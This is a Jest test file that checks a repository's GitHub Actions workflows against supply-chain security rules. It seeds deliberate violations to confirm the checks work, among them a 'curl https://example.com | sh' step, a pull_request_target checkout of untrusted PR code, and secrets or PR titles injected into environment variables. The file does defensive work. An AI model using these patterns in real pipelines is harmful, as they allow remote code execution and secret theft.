import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { beforeAll, describe, expect, test } from '@jest/globals';
import { SOURCES } from '../src/sources/index.ts';
import { commitAll, git, initRepository } from './support/git.ts';
import { ROOT, temporaryFolders } from './support/project.ts';
import { workflowOf, workflowRules, type Job } from './support/workflow-rules.ts';

const FOLDER = join(ROOT, '.github/workflows');
const names = readdirSync(FOLDER).sort();
const workflowText = (name: string): string => readFileSync(join(FOLDER, name), 'utf8');
const { scripts } = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { scripts: object };

type Rule = keyof typeof workflowRules;
const rules = Object.keys(workflowRules) as Rule[];

/** The parts of a workflow that break a rule. */
function breachesOf(rule: Rule, text: string): unknown[] {
  return workflowRules[rule]({ ...workflowOf(text), text, scripts: new Set(Object.keys(scripts)) });
}

describe.each(names)('%s', (name) => {
  test.each(rules)('%s', (rule) => {
    expect(breachesOf(rule, workflowText(name))).toEqual([]);
  });
});

/** A change that breaks each rule: the workflow, the text to replace, and its replacement. */
const breaches: Record<Rule, readonly [name: string, from: string | RegExp, to: string][]> = {
  'runs one command per step, with only quoted variables in it': [
    ['release.yml', 'npm run release -- --public', 'npm run release -- --date ${{ inputs.date }}'],
    ['release.yml', '"refs/tags/$TAG" ^origin/main', '"refs/tags/${{ inputs.date }}"'],
    ['weekly.yml', 'npm ci', 'npm ci && curl https://example.com | sh'],
    ['pages.yml', 'npm run verify', 'npm run verifies'],
    ['publish.yml', '--tag "$TAG"', '--tag ${{ github.ref_name }}'],
  ],
  'checks out the whole history in each job that verifies': [
    ...['ci.yml', 'pages.yml', 'publish.yml', 'release.yml'].map(
      (name) => [name, / +fetch-depth: 0.*\n/, ''] as [string, RegExp, string],
    ),
    ['pages.yml', 'fetch-depth: 0', 'fetch-depth: 1'],
  ],
  'gives no permission by default, and states a reason for each permission of a job': [
    ['ci.yml', 'permissions: {}\n', ''],
    ['contribution.yml', / # to set the commit.*/, ''],
    ['ci.yml', /permissions:\n.*contents: read.*\n/, 'permissions: write-all\n'],
  ],
  'has a concurrency group, and a timeout for every job': [
    ['pages.yml', / +timeout-minutes:.*\n/, ''],
    ['pages.yml', /concurrency:.*\n/, ''],
  ],
  'uses only the default branch on pull_request_target': [
    ['contribution.yml', 'ref: main', 'ref: ${{ github.event.pull_request.head.sha }}'],
    ['contribution.yml', / +ref: main.*\n/, ''],
    ['contribution.yml', 'env:\n', 'env:\n          TITLE: ${{ github.event.pull_request.title }}\n'],
    ['contribution.yml', 'env:\n', 'env:\n          KEY: ${{ secrets.KEY }}\n'],
    ['contribution.yml', 'on: #', 'on:\n  issue_comment:\n #'],
  ],
  'has no write permission and no secrets if it runs code from a pull request': [
    ['ci.yml', 'contents: read', 'contents: write'],
    ['release.yml', 'on:\n', 'on:\n  pull_request:\n'],
  ],
  'runs no npm code in jobs with a key or signing rights, and installs no workspaces in jobs that may write': [
    ['release.yml', '- run: git fetch', '- uses: ./.github/actions/setup\n      - run: git fetch'],
    ['publish.yml', '- uses: actions/attest', '- run: npm run clients\n      - uses: actions/attest'],
    ['pages.yml', '- id: deployment', '- run: npm run verify\n      - id: deployment'],
    ['contribution.yml', 'uses: ./.github/actions/setup', 'run: npm ci'],
  ],
};

test.each(Object.entries(breaches) as [Rule, (typeof breaches)[Rule]][])(
  'rejects a workflow that breaks the rule: %s',
  (rule, changes) => {
    for (const [name, from, to] of changes) {
      const text = workflowText(name).replace(from, () => to);
      expect(text).not.toBe(workflowText(name));
      expect({ name, to, found: breachesOf(rule, text).length > 0 }).toEqual({ name, to, found: true });
    }
  },
);

describe("GitHub's own language service", () => {
  const faulty = [
    ['runs-on', 'run-on'],
    ['github.ref }}', 'gitub.ref }}'],
    ['jobs:', 'jobs: ['],
  ].map(([from = '', to = '']) => workflowText('ci.yml').replace(from, to));
  let problems: string[][] = [];
  beforeAll(() => {
    const input = JSON.stringify([...names.map(workflowText), ...faulty]);
    const args = ['--import', 'tsx', join(ROOT, 'test/support/lint-workflows.ts')];
    problems = JSON.parse(execFileSync(process.execPath, args, { cwd: ROOT, input, encoding: 'utf8' })) as string[][];
  });

  test('finds no problems in the workflows, but finds deliberate mistakes', () => {
    expect(Object.fromEntries(names.map((name, at) => [name, problems[at]]))).toEqual(
      Object.fromEntries(names.map((name) => [name, []])),
    );
    expect(problems.slice(names.length).map(({ length }) => length > 0)).toEqual([true, true, true]);
  });
});

/** The permissions that each command and action needs. A job must have exactly the permissions of its steps. */
const NEEDS: readonly (readonly [what: string, ...permissions: string[]])[] = [
  ['actions/checkout@', 'contents: read'],
  ['npm run github -- check', 'contents: read', 'pull-requests: write', 'statuses: write'],
  ['npm run github -- refresh', 'issues: write'],
  ['npm run github -- publish', 'contents: write'],
  ['npm publish', 'id-token: write'],
  ['pypa/gh-action-pypi-publish@', 'id-token: write'],
  ['actions/attest@', 'artifact-metadata: write', 'attestations: write', 'id-token: write'],
  ['actions/deploy-pages@', 'id-token: write', 'pages: write'],
  ['peter-evans/create-pull-request@', 'contents: write', 'pull-requests: write'],
  ['github/codeql-action/analyze@', 'actions: read', 'security-events: write'],
];

const jobs = names.flatMap((name) =>
  Object.entries(workflowOf(workflowText(name)).jobs).map(([id, job]) => ({ name, id, job })),
);

test.each(jobs)('$name: the job $id has exactly the permissions that its steps need', ({ job }) => {
  const done = job.steps.map(({ uses = '', run = '' }) => uses + run);
  const needed = NEEDS.filter(([what]) => done.some((one) => one.startsWith(what))).flatMap(([, ...of]) => of);
  const wanted = new Set(
    needed.filter((one) => !needed.includes(one.replace('read', 'write')) || one.endsWith('write')),
  );
  const given = Object.entries(job.permissions ?? {}).map(([scope, level]) => `${scope}: ${level}`);
  expect(given.sort()).toEqual([...wanted].sort());
});

test('every workflow uses the same version of an action', () => {
  const action = readFileSync(join(ROOT, '.github/actions/setup/action.yml'), 'utf8');
  const uses = [...names.map(workflowText), action].flatMap((text) => [
    ...text.matchAll(/uses: ([\w/-]+)@(\w{40} # \S+)/g),
  ]);
  const pins = new Map(uses.map(([, name, pin]) => [name, pin]));
  expect(uses.filter(([, name, pin]) => pins.get(name) !== pin)).toEqual([]);
});

test('refresh.yml reads and proposes exactly the sources with a data URL', () => {
  const { read, propose } = workflowOf(workflowText('refresh.yml')).jobs as { read: Job; propose: Job };
  const downloaded = SOURCES.map(({ id }) => id).filter((id) =>
    readFileSync(join(ROOT, `data/${id}/source.json`), 'utf8').includes('"data_url": "'),
  );
  expect(downloaded.length).toBeLessThan(SOURCES.length);
  for (const { strategy } of [read, propose]) expect(strategy?.matrix['source']).toEqual(downloaded.sort());
});

test('only the tag of a release starts publish.yml', () => {
  const workflow = workflowOf(workflowText('publish.yml'));
  expect(Object.keys(workflow.on)).toEqual(['push']);
  const { tags, ...others } = workflow.on['push'] as { readonly tags: readonly string[] };
  expect(others).toEqual({});
  const [pattern = '', ...further] = tags;
  expect(further).toEqual([]);
  // Brackets in this pattern have the same meaning as in a regular expression.
  const starts = (tag: string): boolean => new RegExp(`^${pattern}$`).test(tag);
  expect(['2026-11-26', '2026-1-26', 'v1.0.0', '2026-11-26-rc', 'a2026-11-26'].map(starts)).toEqual([
    true,
    ...Array<boolean>(4).fill(false),
  ]);
  // The ruleset protects every tag that starts the workflow.
  const rulesets = readFileSync(join(ROOT, '.github/rulesets/releases.json'), 'utf8');
  expect(rulesets).toContain(`"refs/tags/${pattern.replaceAll('[0-9]', '?')}"`);
});

test('release.yml only makes and pushes a release, without publishing it', () => {
  expect(Object.keys(workflowOf(workflowText('release.yml')).jobs)).toEqual(['prepare', 'push']);
});

describe('the job that pushes a release', () => {
  const makeFolder = temporaryFolders();
  const TAG = '2030-01-20';
  const commitFile = (folder: string, path: string): void => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), path);
    commitAll(folder, `Add ${path}`);
  };

  /** Runs the job's commands on a release that consists of some commits. @returns whether the release was pushed. */
  async function isPushed(makeCommits: (prepared: string) => void): Promise<boolean> {
    const folder = await makeFolder();
    const prepared = join(folder, 'prepared');
    const origin = join(folder, 'origin');
    const checkout = join(folder, 'checkout');
    mkdirSync(prepared);
    writeFileSync(join(prepared, 'README.md'), 'Read me');
    initRepository(prepared);
    git(folder, 'clone', '--quiet', '--bare', prepared, origin);
    git(folder, 'clone', '--quiet', origin, checkout);
    makeCommits(prepared);
    git(prepared, 'tag', '--annotate', TAG, '-m', `Release ${TAG}`);
    mkdirSync(join(checkout, 'release'));
    const bundle = join(checkout, 'release/release.bundle');
    git(prepared, 'bundle', 'create', '--quiet', bundle, `refs/tags/${TAG}`);
    const { push } = workflowOf(workflowText('release.yml')).jobs as { push: Job };
    try {
      for (const command of push.steps.flatMap(({ run }) => run ?? []))
        execFileSync('bash', ['-e', '-c', command], { cwd: checkout, env: { ...process.env, TAG }, stdio: 'pipe' });
    } catch {
      return false;
    }
    return git(origin, 'rev-parse', 'main') === git(prepared, 'rev-parse', 'HEAD');
  }

  test('pushes one commit that changes only published files', async () => {
    expect(
      await isPushed((prepared) => {
        commitFile(prepared, 'api/v1/index.json');
      }),
    ).toBe(true);
  });

  test.each<[string, (prepared: string) => void]>([
    [
      'another file',
      (prepared) => {
        commitFile(prepared, 'src/stolen.ts');
      },
    ],
    [
      'an earlier commit with another file, which the last commit removes',
      (prepared) => {
        commitFile(prepared, 'src/stolen.ts');
        rmSync(join(prepared, 'src'), { recursive: true });
        commitFile(prepared, 'api/v1/index.json');
      },
    ],
    [
      'a merged commit with another file, which the merge leaves out',
      (prepared) => {
        git(prepared, 'checkout', '--quiet', '-b', 'side');
        commitFile(prepared, 'src/stolen.ts');
        git(prepared, 'checkout', '--quiet', 'main');
        git(prepared, 'merge', '--quiet', '--no-ff', '--strategy', 'ours', '-m', 'Merge', 'side');
      },
    ],
  ])('pushes nothing if the release has %s', async (_, makeCommits) => {
    expect(await isPushed(makeCommits)).toBe(false);
  });
});

test('every job of publish.yml runs after the tag is verified', () => {
  const { jobs } = workflowOf(workflowText('publish.yml'));
  const isAfter = (id: string): boolean => id === 'verify' || [jobs[id]?.needs ?? []].flat().some(isAfter);
  expect(Object.keys(jobs).filter((id) => !isAfter(id))).toEqual([]);
  const checkouts = Object.values(jobs).flatMap(({ steps }) => steps.flatMap((step) => step.with?.['ref'] ?? []));
  expect(checkouts).toEqual(['${{ github.ref }}', '${{ needs.verify.outputs.commit }}']);
});

test('every push to main updates the site, and waiting or repeated runs block no other run', () => {
  expect(workflowOf(workflowText('pages.yml')).on).toEqual({ push: { branches: ['main'] }, workflow_dispatch: null });
  // Each release has its own group, so one that waits for an approval doesn't block others.
  expect(workflowOf(workflowText('release.yml')).concurrency).toMatch(/\binputs\.date\b.*\bgithub\.run_id\b/);
  // A deployment accepts only one artifact of a name, so each attempt has its own name.
  const steps = jobs.flatMap(({ job }) => job.steps);
  const upload = steps.find(({ uses }) => uses?.startsWith('actions/upload-pages-artifact@') === true);
  expect(upload?.with?.['name']).toMatch(/\bgithub\.run_attempt\b/);
  const outputs = jobs.flatMap(({ job }) => job.outputs?.['artifact'] ?? []);
  expect(outputs).toEqual([upload?.with?.['name']]);
  for (const step of steps.filter(({ uses }) => uses?.startsWith('actions/upload-artifact@') === true))
    expect(step.with).toMatchObject({ overwrite: true });
});
